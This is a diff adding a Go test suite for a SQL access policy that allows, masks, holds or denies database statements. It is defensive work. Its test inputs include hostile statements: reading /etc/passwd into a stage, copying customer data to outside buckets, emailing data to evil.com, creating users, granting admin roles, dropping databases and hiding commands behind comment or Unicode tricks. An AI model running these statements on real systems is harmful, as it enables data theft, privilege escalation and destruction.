@@ -1,0 +1,189 @@
+package policy
+
+import (
+	"slices"
+	"testing"
+
+	"github.com/jit-access/jit/policy/sql"
+)
+
+// spec states what the shipped bundle does with texts, as the broker sees them.
+type spec struct {
+	t       *testing.T
+	catalog Tables
+}
+
+func newSpec(t *testing.T) spec {
+	catalog := make(Tables)
+	for name, columns := range map[string][]string{
+		"CUSTOMERS": {"ID", "NAME", "EMAIL", "PHONE", "SSN", "CITY"},
+		"ORDERS":    {"ID", "CUSTOMER_ID", "AMOUNT", "STATUS", "TS"},
+	} {
+		catalog[sql.ObjectName{Database: "APP", Schema: "PUBLIC", Name: name}] = sql.Relation{Kind: sql.ObjectTable, Columns: columns}
+	}
+	return spec{t, catalog}
+}
+
+func (s spec) check(text string, verdict Verdict, rule string, approvals int, masked ...string) {
+	s.t.Helper()
+	x := Default().Explain(text, Input{Subject: ana(), Setting: prod()}, s.catalog)
+	r := x.Ruling
+	if r.Verdict != verdict || rule != "" && r.Rule != rule || r.Approvals != approvals {
+		s.t.Errorf("%s\ngot %v by %s, %d approvals (%s)\nwant %v by %s, %d approvals", text, r.Verdict, r.Rule, r.Approvals, r.Reason, verdict, rule, approvals)
+	}
+	if got := x.Masked(); verdict == Allow && !slices.Equal(got, masked) {
+		s.t.Errorf("%s\nmasked %v, want %v", text, got, masked)
+	}
+}
+
+func (s spec) allow(text string) { s.t.Helper(); s.check(text, Allow, "", 0) }
+func (s spec) mask(text string, cols ...string) {
+	s.t.Helper()
+	s.check(text, Allow, "reads", 0, cols...)
+}
+func (s spec) hold(text, rule string) { s.t.Helper(); s.check(text, Hold, rule, 1) }
+func (s spec) two(text, rule string)  { s.t.Helper(); s.check(text, Hold, rule, 2) }
+func (s spec) deny(text, rule string) { s.t.Helper(); s.check(text, Deny, rule, 0) }
+
+func TestReadsRunMasked(t *testing.T) {
+	s := newSpec(t)
+	s.allow("SELECT 1")
+	s.allow("SELECT CURRENT_TIMESTAMP(), CURRENT_ROLE()")
+	s.allow("SELECT COUNT(*) FROM customers")
+	s.allow("SELECT id, city FROM customers WHERE id = ?")
+	s.allow("SELECT status, SUM(amount) FROM orders GROUP BY status ORDER BY 2 DESC LIMIT 10")
+	s.allow("SELECT 1; SELECT 2")
+	s.allow("WITH x AS (SELECT 1 AS email) SELECT email FROM x")
+	s.mask("SELECT * FROM customers", "EMAIL", "PHONE", "SSN")
+	s.mask("SELECT email AS city FROM customers", "CITY")
+	s.mask("SELECT id, UPPER(email) AS e, LENGTH(ssn) AS n FROM customers", "E", "N")
+	s.mask("SELECT AVG(LENGTH(email)) FROM customers", "$1")
+	s.mask("SELECT city, COUNT(DISTINCT email) AS n FROM customers GROUP BY city", "N")
+	s.mask("SELECT IFF(email LIKE 'a%', 1, 0) AS b FROM customers", "B")
+	s.mask("SELECT (SELECT MAX(email) FROM customers) AS m FROM orders", "M")
+	s.mask("SELECT email FROM customers UNION ALL SELECT status FROM orders", "EMAIL")
+	s.mask("SELECT email FROM customers; SELECT 1", "EMAIL")
+}
+
+func TestHousekeepingRuns(t *testing.T) {
+	s := newSpec(t)
+	for _, text := range []string{
+		"SHOW TABLES", "SHOW TERSE SCHEMAS", "SHOW WAREHOUSES", "DESCRIBE TABLE customers", "DESC TABLE orders",
+		"EXPLAIN SELECT id FROM orders", "LIST @~", "BEGIN", "COMMIT", "ROLLBACK", "USE DATABASE app", "USE SCHEMA public",
+		"USE WAREHOUSE wh", "USE ROLE analyst", "SET x = 1", "UNSET x", "ALTER SESSION SET TIMEZONE = 'UTC'",
+		"ALTER SESSION SET QUERY_TAG = 'report'", "ALTER SESSION UNSET QUERY_TAG",
+	} {
+		s.allow(text)
+	}
+}
+
+func TestInferenceIsHeld(t *testing.T) {
+	s := newSpec(t)
+	for _, text := range []string{
+		"SELECT id FROM customers WHERE email = 'a@b.c'",
+		"SELECT id FROM customers ORDER BY email",
+		"SELECT DISTINCT email FROM customers",
+		"SELECT email, COUNT(*) FROM customers GROUP BY email",
+		"SELECT c.id FROM customers c JOIN customers d ON c.email = d.email",
+		"SELECT id FROM customers QUALIFY ROW_NUMBER() OVER (ORDER BY ssn) = 1",
+		"SELECT id FROM orders WHERE EXISTS (SELECT 1 FROM customers WHERE email LIKE 'a%')",
+		"SELECT COUNT(*) FROM customers WHERE SUBSTR(ssn, 1, 1) = '1'",
+		"SELECT id FROM customers MINUS SELECT id FROM customers WHERE email LIKE 'a%'",
+		"EXPLAIN SELECT id FROM customers WHERE email = 'a'",
+		"DELETE FROM orders USING customers c WHERE c.email = 'a'",
+	} {
+		s.hold(text, "classified-predicates")
+	}
+}
+
+func TestWhatIsNotUnderstoodIsHeld(t *testing.T) {
+	s := newSpec(t)
+	s.hold("SELECT * FROM nowhere.at.all", "unnamed-data")
+	s.hold("SELECT $x", "unnamed-data")
+	s.hold("SELECT * FROM IDENTIFIER(?)", "unnamed-data")
+	s.hold("SELECT my_function(id) FROM orders", "unknown-functions")
+	s.hold("SELECT GET_DDL('TABLE', 'customers')", "system-functions")
+	s.hold("SELECT * FROM TABLE(RESULT_SCAN('01b2'))", "system-functions")
+	s.hold("FOO BAR", "unclear")
+	s.hold("SHOW VARIABLES", "unclear")
+	s.hold("ALTER SESSION SET SEARCH_PATH = 'x'", "unclear")
+	s.hold("ALTER SESSION SET MULTI_STATEMENT_COUNT = 0", "unclear")
+	s.hold("SHOW TABLES ->> SELECT * FROM $1", "unnamed-data")
+}
+
+func TestChangesAreHeld(t *testing.T) {
+	s := newSpec(t)
+	s.hold("INSERT INTO orders (id) VALUES (1)", "writes")
+	s.hold("UPDATE customers SET city = email", "writes")
+	s.hold("TRUNCATE TABLE orders", "writes")
+	s.hold("MERGE INTO orders o USING customers c ON o.id = c.id WHEN MATCHED THEN DELETE", "writes")
+	s.hold("SELECT 1; DELETE FROM orders", "writes")
+	s.hold("CREATE TABLE t AS SELECT email FROM customers", "definitions")
+	s.hold("CREATE OR REPLACE TABLE orders (id INT)", "definitions")
+	s.hold("DROP TABLE orders", "definitions")
+	s.hold("ALTER WAREHOUSE wh SET WAREHOUSE_SIZE = 'X-LARGE'", "definitions")
+	s.hold("COPY INTO orders FROM @~/x", "loads")
+	s.hold("COPY INTO @ext FROM (SELECT id FROM customers)", "unloads")
+	s.hold("CALL do_things()", "calls")
+	s.hold("EXECUTE IMMEDIATE 'SELECT 1'", "scripts")
+	s.hold("EXECUTE TASK t", "scripts")
+	s.hold("SELECT AI_COMPLETE('m', city) FROM customers", "ai-functions")
+	s.hold("SHOW USERS", "people-metadata")
+	s.hold("SHOW GRANTS TO USER me", "people-metadata")
+}
+
+func TestDestructionTakesTwo(t *testing.T) {
+	s := newSpec(t)
+	s.two("DROP DATABASE app", "drop-database")
+	s.two("drop /* all */ database if exists app cascade", "drop-database")
+	s.two("DROP SCHEMA app.public", "drop-database")
+	s.two("CREATE OR REPLACE SCHEMA app.public", "drop-database")
+	s.two("CREATE OR REPLACE DATABASE app CLONE other", "drop-database")
+	s.two("BEGIN; DROP DATABASE app; COMMIT", "drop-database")
+	s.two("BEGIN DROP DATABASE app; END", "drop-database")
+	s.two("EXECUTE IMMEDIATE 'DROP DATABASE app'", "drop-database")
+	s.two("CREATE TASK t SCHEDULE = '1 minute' AS DROP DATABASE app", "drop-database")
+	s.two("GRANT SELECT ON TABLE orders TO ROLE x", "privileges")
+	s.two("GRANT ROLE accountadmin TO USER me", "privileges")
+	s.two("REVOKE SELECT ON TABLE orders FROM ROLE x", "privileges")
+}
+
+func TestWaysOutAreDenied(t *testing.T) {
+	s := newSpec(t)
+	s.deny("PUT file:///etc/passwd @~", "client-files")
+	s.deny("GET @~/out file:///tmp/", "client-files")
+	s.deny("RM @~/x", "client-files")
+	s.deny("COPY INTO 's3://elsewhere/x' FROM customers", "leaves-the-account")
+	s.deny("COPY INTO 'azure://x/y' FROM customers", "leaves-the-account")
+	s.deny("CREATE STAGE st URL = 's3://elsewhere/'", "leaves-the-account")
+	s.deny("ALTER SHARE sh ADD ACCOUNTS = other", "shares")
+	s.deny("GRANT SELECT ON TABLE orders TO SHARE sh", "shares")
+	s.deny("SELECT GET_PRESIGNED_URL(@s, 'x')", "egress-functions")
+	s.deny("SELECT SYSTEM$SEND_SNOWFLAKE_NOTIFICATION('x', 'y')", "egress-functions")
+	s.deny("CALL SYSTEM$SEND_EMAIL('i', 'x@evil.com', 's', 'b')", "egress-functions")
+}
+
+func TestCredentialsAndRolesAreDenied(t *testing.T) {
+	s := newSpec(t)
+	s.deny("CREATE USER eve PASSWORD = 'x'", "credentials")
+	s.deny("ALTER USER me SET RSA_PUBLIC_KEY = 'MII'", "credentials")
+	s.deny("ALTER USER me ADD PROGRAMMATIC ACCESS TOKEN t", "credentials")
+	s.deny("CREATE SECURITY INTEGRATION i TYPE = OAUTH", "credentials")
+	s.deny("CREATE NETWORK POLICY p ALLOWED_IP_LIST = ('0.0.0.0/0')", "credentials")
+	s.deny("ALTER ACCOUNT SET NETWORK_POLICY = p", "credentials")
+	s.deny("SELECT 1; SELECT 2; CREATE USER eve", "credentials")
+	s.deny("BEGIN CREATE USER eve; END", "credentials")
+	s.deny("USE ROLE accountadmin", "role-switch")
+	s.deny(`USE ROLE "analyst"`, "role-switch")
+	s.deny("USE ROLE IDENTIFIER('SYSADMIN')", "role-switch")
+	s.deny("USE ROLE $r", "role-switch")
+	s.deny("USE SECONDARY ROLES ALL", "role-switch")
+}
+
+func TestWhatCannotBeReadIsDenied(t *testing.T) {
+	s := newSpec(t)
+	for _, text := range []string{"", ";", "-- nothing", "SELECT 'open", "SELECT /* open", "SELECT `x`", "SELECT 1 # x",
+		"SELECT 1 -- x\u2028DROP TABLE t", "!source x", "SELECT \u202eliame\u202c FROM customers"} {
+		s.deny(text, ruleUnreadable)
+	}
+}
